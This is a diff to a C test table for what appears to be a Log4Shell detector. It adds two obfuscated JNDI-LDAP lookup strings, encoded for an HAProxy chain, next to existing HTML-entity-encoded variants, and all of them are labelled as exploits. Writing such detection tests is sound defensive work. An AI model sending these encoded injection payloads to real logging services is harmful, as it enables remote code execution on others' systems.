@@ -87,6 +87,8 @@ static void html(void **state)
         ROW("&dollar;&lbrace;jndi&colon;ldap&colon;&sol;&sol;h.example&sol;a&rbrace;", EXPLOIT, .chain = "html"),
         ROW("&dollar;&lcub;jndi:ldap://h&period;example/a&rcub;", EXPLOIT, .chain = "html"),
         ROW("$&lbrace;jndi:ldap://h.example/a}", EXPLOIT, .chain = "html"),
+        ROW("ua {$#7Bjndi:ldap://h.example/a#7D|x}", EXPLOIT, .chain = "haproxy"),
+        ROW("ua=$#7B$#7Blower:j#7Dndi:ldap://h.example/a#7D", "exploit", .indicators = H, .fires = FIRES_2_13, .chain = "haproxy"),
         ROW("$&LBRACE;jndi:ldap://h.example/a&RCUB;", EXPLOIT, .chain = "html"),
         ROW("&amp;#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html"),
         ROW("&amp;amp;dollar;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html html"),
